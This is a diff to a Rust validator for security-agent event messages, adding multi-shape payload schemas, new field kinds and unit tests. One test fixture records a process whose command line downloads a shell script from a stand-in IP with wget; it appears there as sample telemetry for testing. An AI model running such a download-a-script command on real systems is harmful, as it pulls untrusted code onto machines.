@@ -2,7 +2,7 @@
 
 use crate::MESSAGE_BYTES_MAX;
 use crate::message::{Category, Event, EventType, SecurityMessage};
-use crate::schema::{self, EventSchema, Kind};
+use crate::schema::{self, EventSchema, Field, Kind};
 use serde_json::{Map, Value};
 use std::fmt;
 use std::net::IpAddr;
@@ -90,7 +90,7 @@ fn event(value: &Value, at: &str) -> Result<Event> {
         ],
     )?;
     let name = text(object, at, "Name")?;
-    let Some(schema) = schema::event(&name) else {
+    let Some(wanted_type) = schema::event_type(&name) else {
         return invalid(path(at, "Name"), format!("is {}, which is no event type", quoted(&name)));
     };
     let category = match text(object, at, "Category")?.as_str() {
@@ -115,8 +115,8 @@ fn event(value: &Value, at: &str) -> Result<Event> {
             );
         }
     };
-    if event_type != schema.event_type {
-        let problem = format!("is {}, events of type {name} are {}", event_type.name(), schema.event_type.name());
+    if event_type != wanted_type {
+        let problem = format!("is {}, events of type {name} are {}", event_type.name(), wanted_type.name());
         return invalid(path(at, "EventType"), problem);
     }
     let is_empty = match required(object, at, "IsEmpty")? {
@@ -130,7 +130,8 @@ fn event(value: &Value, at: &str) -> Result<Event> {
     if !is_empty && items.is_empty() {
         return invalid(path(at, "Payload"), "is empty, at least one item is wanted");
     }
-    let payload = items.iter().enumerate().map(|(i, v)| item(v, schema, &format!("{at}.Payload[{i}]")));
+    let payload =
+        items.iter().enumerate().map(|(i, v)| item(v, &name, &format!("{at}.Payload[{i}]"))).collect::<Result<_>>()?;
     Ok(Event {
         id: guid(object, at, "Id")?,
         timestamp_local: timestamp(object, at, "TimestampLocal")?,
@@ -140,38 +141,57 @@ fn event(value: &Value, at: &str) -> Result<Event> {
         event_type,
         is_empty,
         payload_schema_version: version(object, at, "PayloadSchemaVersion")?,
-        payload: payload.collect::<Result<_>>()?,
+        payload,
     })
 }
 
-fn item(value: &Value, schema: &EventSchema, at: &str) -> Result<Map<String, Value>> {
-    let object = as_object(value, at)?;
-    for (name, value) in object {
-        if name == "ExtraDetails" {
-            extra_details(value, &path(at, name))?;
-            continue;
-        }
-        match schema.fields.iter().find(|f| f.name == name) {
-            Some(field) => check(value, field.kind, &path(at, name))?,
-            None => return invalid(path(at, name), format!("is no field of {}", schema.name)),
-        }
-    }
-    for field in schema.fields.iter().filter(|f| f.is_required) {
-        required(object, at, field.name)?;
-    }
-    if !schema.one_of.is_empty() && !schema.one_of.iter().any(|name| object.contains_key(*name)) {
-        return invalid(at, format!("has none of {}, one is wanted", schema.one_of.join(", ")));
-    }
-    Ok(object.clone())
+/// The shape that an item of the event type `name` has: the first that it fits whole.
+pub fn shape(name: &str, item: &Map<String, Value>) -> Option<&'static EventSchema> {
+    schema::shapes(name).find(|shape| fits(item, shape, "").is_ok())
 }
 
-fn extra_details(value: &Value, at: &str) -> Result<()> {
-    for (name, value) in as_object(value, at)? {
-        if !value.is_string() {
-            return invalid(path(at, name), "is not a string");
+/// An item that fits one of the shapes of its event type. One that fits none is told what the shape with the most
+/// of its fields wants.
+fn item(value: &Value, name: &str, at: &str) -> Result<Map<String, Value>> {
+    let object = as_object(value, at)?;
+    let known = |shape: &EventSchema| shape.fields.iter().filter(|f| object.contains_key(f.name)).count();
+    let mut nearest: Option<(usize, Invalid)> = None;
+    for shape in schema::shapes(name) {
+        match fits(object, shape, at) {
+            Ok(()) => return Ok(object.clone()),
+            Err(refusal) if nearest.as_ref().is_none_or(|(count, _)| known(shape) > *count) => {
+                nearest = Some((known(shape), refusal));
+            }
+            Err(_) => {}
         }
     }
+    nearest.map_or_else(|| Ok(object.clone()), |(_, refusal)| Err(refusal))
+}
+
+fn fits(object: &Map<String, Value>, shape: &EventSchema, at: &str) -> Result<()> {
+    const EXTRA: Field = schema::may("ExtraDetails", Kind::Properties);
+    fields(object, shape.name, shape.fields, Some(&EXTRA), at)?;
+    if !shape.one_of.is_empty() && !shape.one_of.iter().any(|name| object.contains_key(*name)) {
+        return invalid(at, format!("has none of {}, one is wanted", shape.one_of.join(", ")));
+    }
     Ok(())
+}
+
+/// Whether the object `of` has the fields that it must have and no others.
+fn fields(
+    object: &Map<String, Value>,
+    of: &str,
+    known: &'static [Field],
+    extra: Option<&Field>,
+    at: &str,
+) -> Result<()> {
+    for (name, value) in object {
+        match known.iter().chain(extra).find(|f| f.name == name) {
+            Some(field) => check(value, field.kind, &path(at, name))?,
+            None => return invalid(path(at, name), format!("is no field of {of}")),
+        }
+    }
+    known.iter().filter(|f| f.is_required).try_for_each(|field| required(object, at, field.name).map(|_| ()))
 }
 
 fn check(value: &Value, kind: Kind, at: &str) -> Result<()> {
@@ -189,6 +209,25 @@ fn check(value: &Value, kind: Kind, at: &str) -> Result<()> {
         Kind::Address => "an IPv4 or IPv6 address, as a string",
         Kind::Port if text.is_some_and(is_port) => return Ok(()),
         Kind::Port => "a port, a range a-b, a list a,b or *, as a string",
+        Kind::PortNumber if value.as_u64().is_some_and(|port| port <= u64::from(u16::MAX)) => return Ok(()),
+        Kind::PortNumber => "a port from 0 to 65535, as a number",
+        Kind::Properties if value.is_object() => {
+            for (name, value) in as_object(value, at)? {
+                check(value, Kind::Text, &path(at, name))?;
+            }
+            return Ok(());
+        }
+        Kind::Properties => "a JSON object",
+        Kind::List(known) => {
+            let Value::Array(items) = value else {
+                return invalid(at, format!("is {}, wanted a JSON array", brief(value)));
+            };
+            for (i, item) in items.iter().enumerate() {
+                let at = format!("{at}[{i}]");
+                fields(as_object(item, &at)?, "this list", known, None, &at)?;
+            }
+            return Ok(());
+        }
         Kind::OneOf(words) => match text {
             Some(t) if words.contains(&t) => return Ok(()),
             _ => return invalid(at, format!("is {}, wanted one of {}", brief(value), words.join(", "))),
@@ -281,6 +320,7 @@ fn array<'v>(object: &'v Map<String, Value>, at: &str, name: &str) -> Result<&'v
 #[cfg(test)]
 mod tests {
     use super::*;
+    use crate::schema::Agent;
     use serde_json::json;
 
     fn message(change: impl FnOnce(&mut Value)) -> std::result::Result<SecurityMessage, String> {
@@ -361,6 +401,55 @@ mod tests {
         let mut with_name = base;
         with_name["UserName"] = json!("root");
         assert!(login(with_name).is_ok());
+    }
+
+    #[test]
+    fn items_of_the_micro_agent_have_their_own_names_and_types() {
+        let item = |name: &str, item: Value| {
+            message(|m| {
+                m["Events"][0]["Name"] = json!(name);
+                m["Events"][0]["Payload"] = json!([item]);
+            })
+            .map(|m| shape(name, &m.events[0].payload[0]).map(|s| s.agent))
+        };
+        let micro = Ok(Some(Agent::Micro));
+        let process = json!({"EventType": "EXEC", "ProcessId": 812, "UserId": 1000, "Executable": "/usr/bin/wget",
+            "Commandline": "wget http://198.51.100.7/x.sh", "HitCount": 3});
+        assert_eq!(item("Process", process), micro);
+        let mut connection = json!({"LocalAddress": "192.0.2.20", "LocalPort": 51544, "RemoteAddress": "203.0.113.9",
+            "RemotePort": 443, "Protocol": "TCP", "ExtendedProperties": {"HostName": "example.org"}});
+        assert_eq!(item("NetworkActivity", connection.clone()), micro);
+        connection["RemotePort"] = json!(65536);
+        assert_eq!(
+            item("NetworkActivity", connection),
+            Err("Events[0].Payload[0].RemotePort is 65536, wanted a port from 0 to 65535, as a number".to_owned())
+        );
+        let mut system = json!({"OsDist": "Debian", "OsVersion": "11", "OsPlatform": "Linux", "OsArch": "armv7l",
+            "Nics": [{"Type": "ETH", "Info": [{"Ipv4Address": "192.0.2.20", "Mac": "02:00:5e:10:00:01"}]}]});
+        assert_eq!(item("SystemInformation", system.clone()), micro);
+        system["Nics"][0]["Info"][0]["Speed"] = json!(1);
+        assert_eq!(
+            item("SystemInformation", system),
+            Err("Events[0].Payload[0].Nics[0].Info[0].Speed is no field of this list".to_owned())
+        );
+        assert_eq!(
+            item("Process", json!({"EventType": "EXEC", "ProcessId": "812"})),
+            Err("Events[0].Payload[0].ProcessId is \"812\", wanted an integer".to_owned())
+        );
+    }
+
+    #[test]
+    fn a_login_has_either_agents_shape() {
+        let login = |fields: Value| {
+            let base = json!({"ProcessId": 1, "UserName": "root", "Executable": "ssh:notty"});
+            let mut item = base.as_object().cloned().unwrap_or_default();
+            item.extend(fields.as_object().cloned().unwrap_or_default());
+            shape("Login", &item).map(|s| s.agent)
+        };
+        let remote = "198.51.100.23";
+        assert_eq!(login(json!({"Operation": "LoginFailed", "RemoteAddress": remote})), Some(Agent::Micro));
+        assert_eq!(login(json!({"Operation": "su", "Result": "Fail", "RemoteAddress": remote})), Some(Agent::Legacy));
+        assert_eq!(login(json!({"Operation": "su"})), None);
     }
 
     #[test]
